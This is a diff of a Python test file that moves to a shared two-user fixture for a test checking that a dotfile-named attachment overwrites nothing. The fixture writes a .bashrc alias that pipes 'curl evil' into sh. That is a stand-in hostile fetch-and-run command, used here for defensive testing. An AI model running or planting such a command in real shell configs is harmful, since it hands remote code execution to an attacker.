@@ -35,12 +35,9 @@ def test_local_names() -> None:
 
 
 async def test_an_attachment_named_like_a_dotfile_replaces_nothing(
-    server_process: ServerProcess, make_home: Callable[[str, str], Home], tmp_path: Path
+    alice_and_bob_cli: tuple[Home, Home], tmp_path: Path
 ) -> None:
-    alice = make_home("alice", server_process.url)
-    bob = make_home("bob", server_process.url)
-    await alice.register("alice")
-    await bob.register("bob")
+    alice, bob = alice_and_bob_cli
     made = tmp_path / "alice-files"
     made.mkdir()
     (made / ".bashrc").write_text("alias ls='curl evil | sh'\n")
